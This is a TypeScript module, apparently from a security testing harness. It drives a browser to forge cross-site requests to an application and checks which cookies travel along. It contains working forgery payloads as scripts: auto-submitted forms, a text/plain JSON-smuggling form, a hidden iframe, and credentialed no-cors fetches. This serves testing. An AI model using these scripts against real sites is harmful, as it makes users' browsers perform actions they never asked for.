import type { Facts } from '../../exchange.ts';
import type { Browser, Site, Tab } from '../../hooks/browser.ts';
import { isKeptByBrowsers, pathSpellings } from '../clients/spellings.ts';
import { isAnswered, Unanswered } from '../evidence/unanswered.ts';

/** How a page makes the browser send a request that the user did not ask for. */
export type Way = 'form' | 'text-form' | 'get' | 'fetch' | 'frame';

export interface Forged {
  readonly from: Site;
  readonly by: Way;
  /** Where it was another spelling than the one declared. */
  readonly spelled?: string;
  /** 0 where no answer was seen. */
  readonly status: number;
  /** The application's cookies that went along, and those that the browser kept back, with its reason. */
  readonly carried: readonly string[];
  readonly withheld: Readonly<Record<string, string>>;
}

export interface ForgedRequest {
  readonly path: string;
  /** Fields of a form; as one JSON text where the form is sent as text/plain. */
  readonly fields?: Readonly<Record<string, string>>;
}

/** Goes to a page of a site, which forges one request to the application. */
export async function forge(browser: Browser, tab: Tab, from: Site, by: Way, aim: ForgedRequest): Promise<Forged> {
  await tab.go(from);
  const before = tab.sent().length;
  const status = await ways[by](tab, { to: `${browser.origins.app}${aim.path}`, fields: aim.fields ?? {} });
  const request = () =>
    tab
      .sent()
      .slice(before)
      .find(({ path }) => path === aim.path || path.startsWith(aim.path + (aim.path.includes('?') ? '&' : '?')));
  // A page may not see the answer; what tells of it comes a little later than the page goes on.
  for (let i = 0; i < looks && !request()?.status; i += 1) await tab.run(aLittle);
  const sent = request();
  // where nothing at all was seen, the browser may have sent nothing: that is for the attack to read
  if (sent?.status && !isAnswered({ status: sent.status })) throw new Unanswered(aim.path, { status: sent.status });
  return {
    from,
    by,
    status: status ?? sent?.status ?? 0,
    carried: sent?.carried ?? [],
    withheld: sent?.withheld ?? {},
  };
}

/**
 * Goes to a page of a site, which asks for every other spelling of a path that its browser leaves as it is.
 * @returns those that the application has a resource for
 */
export async function forgeSpelled(browser: Browser, tab: Tab, from: Site, aim: ForgedRequest): Promise<Forged[]> {
  await tab.go(from);
  const before = tab.sent().length;
  const spelled = pathSpellings({ method: 'POST', path: aim.path, headers: {} }).filter(isKeptByBrowsers);
  const paths = spelled.map(({ request }) => request.path);
  await tab.run(fetchAllScript, { to: paths.map((one) => browser.origins.app + one), fields: aim.fields ?? {} });
  const sent = () =>
    tab
      .sent()
      .slice(before)
      .filter((one) => paths.includes(one.path));
  for (let i = 0; i < looks && sent().some(({ status }) => !status); i += 1) await tab.run(aLittle);
  return sent().flatMap(({ path: asked, status = 0, carried, withheld }) =>
    status === 0 || status === 404 || status === 405
      ? []
      : [{ from, by: 'fetch', spelled: asked, status, carried, withheld }],
  );
}

/** What was done, what the browser did, and what was answered. */
export function forgeryText({ from, by, spelled, status, carried }: Forged): string {
  return `${by}${spelled === undefined ? '' : ` of ${spelled}`} from ${from} ${carried.length > 0 ? 'with' : 'without'} the cookie: ${status || 'no answer'}`;
}

type Send = (tab: Tab, given: Facts) => Promise<number | undefined>;

const ways: Readonly<Record<Way, Send>> = {
  form: async (tab, given) => (await tab.leave(formScript, { ...given, target: '_self' })).status,
  // The body `{"a":"b","":"="}` needs no preflight, and is JSON for whoever does not look at its type.
  'text-form': async (tab, given) => (await tab.leave(textFormScript, given)).status,
  get: async (tab, given) => (await tab.leave(linkScript, given)).status,
  async fetch(tab, { to, fields }) {
    await tab.run(fetchAllScript, { to: [to], fields });
    return undefined;
  },
  async frame(tab, given) {
    await tab.run(frameScript, { ...given, target: 'frame' });
    return undefined;
  },
};

const formScript = `
  const form = document.createElement('form');
  Object.assign(form, { method: 'post', action: given.to, target: given.target });
  for (const [name, value] of Object.entries(given.fields)) {
    form.append(Object.assign(document.createElement('input'), { name, value }));
  }
  document.body.append(form);
  form.submit();`;

const textFormScript = `
  const form = document.createElement('form');
  Object.assign(form, { method: 'post', action: given.to, enctype: 'text/plain' });
  const name = JSON.stringify({ ...given.fields, '': '' }).slice(0, -2);
  form.append(Object.assign(document.createElement('input'), { name, value: '"}' }));
  document.body.append(form);
  form.submit();`;

const frameScript = `
  document.body.append(Object.assign(document.createElement('iframe'), { name: 'frame' }));
  ${formScript}`;

const linkScript = `
  const query = new URLSearchParams(given.fields).toString();
  location.href = query === '' ? given.to : given.to + (given.to.includes('?') ? '&' : '?') + query;`;

/** What the page sees of the answers counts for nothing: many are kept from it (Fetch §3.7, Cross-Origin-Resource-Policy). */
const fetchAllScript = `
  const body = new URLSearchParams(given.fields);
  const how = { method: 'POST', mode: 'no-cors', credentials: 'include', ...(body.size > 0 && { body }) };
  await Promise.allSettled(given.to.map((to) => fetch(to, how)));`;

const looks = 200;
const aLittle = 'await new Promise((resolve) => setTimeout(resolve, 25))';
